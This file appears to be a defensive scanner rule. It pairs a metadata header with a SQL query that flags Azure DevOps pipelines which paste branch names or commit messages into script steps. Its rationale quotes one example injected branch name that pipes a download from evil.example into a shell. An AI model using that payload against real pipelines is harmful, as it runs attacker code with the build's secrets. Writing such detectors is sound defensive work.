/*
id: yaml.script_injection
title: Pull-request-controlled values are pasted into scripts
severity: high
resource_type: build_definitions
description: >
  A YAML pipeline's script step (script, bash, pwsh, powershell, or the inline script of a task such as
  PowerShell@2, Bash@3 or AzureCLI@2) contains a macro or template expression whose value the author of a
  branch, commit or pull request chooses: the source branch, the commit message or the pull request's source.
rationale: >
  Macros and template expressions are replaced in the script's text before the shell runs it, so a branch
  named `x";curl evil.example|sh;"` becomes code running with the job's token, secrets and service connections
  (the same concern as poutine's `injection` rule; Checkov's Azure Pipelines checks do not look at it).
remediation: >
  Pass the value through an environment variable (`env: BRANCH: $(Build.SourceBranchName)`, then "$BRANCH" in
  the script, quoted) instead of writing the macro into the script, or validate it against a strict pattern
  first.
anchors:
  owasp: [CICD-SEC-4]
params:
  untrusted_pattern: '(?i)(\$\(\s*|\$\[\s*variables\[\s*''|variables\[\s*''|variables\.)(Build\.SourceBranchName|Build\.SourceBranch|Build\.SourceVersionMessage|System\.PullRequest\.(SourceBranch|SourceRepositoryURI|TargetBranchName|TargetBranch))'
requires: [pipeline_yaml_elements]
*/
WITH hits AS (
    SELECT e.*,
           regexp_extract(e.value, $untrusted_pattern, 2) AS variable
    FROM azure_devops.pipeline_yaml_elements AS e
    WHERE e.organization = $organization
      AND e.kind = 'script'
      AND regexp_matches(coalesce(e.value, ''), $untrusted_pattern)
), per_pipeline AS (
    SELECT organization, project_id, project_name, definition_id, definition_name, repository_name, file_path,
           min(line) AS line,
           arg_min(variable, line) AS variable,
           list(location ORDER BY line) AS locations
    FROM hits
    GROUP BY ALL
)
SELECT
    organization,
    project_id || '/' || CAST(definition_id AS VARCHAR) AS resource_id,
    definition_name AS resource_name,
    project_name,
    'build_definitions' AS resource_type,
    definition_id AS id,
    file_path,
    line,
    'https://dev.azure.com/' || url_encode(organization) || '/' || url_encode(project_name) || '/_git/'
        || url_encode(repository_name) || '?path=' || url_encode(file_path) || '&line=' || line
        || '&lineEnd=' || line || '&lineStartColumn=1&lineEndColumn=1&lineStyle=plain&_a=contents' AS url,
    'Pipeline "' || definition_name || '" puts pull-request-controlled ' || variable || ' into a script at '
        || array_to_string(locations, ', ') AS message
FROM per_pipeline
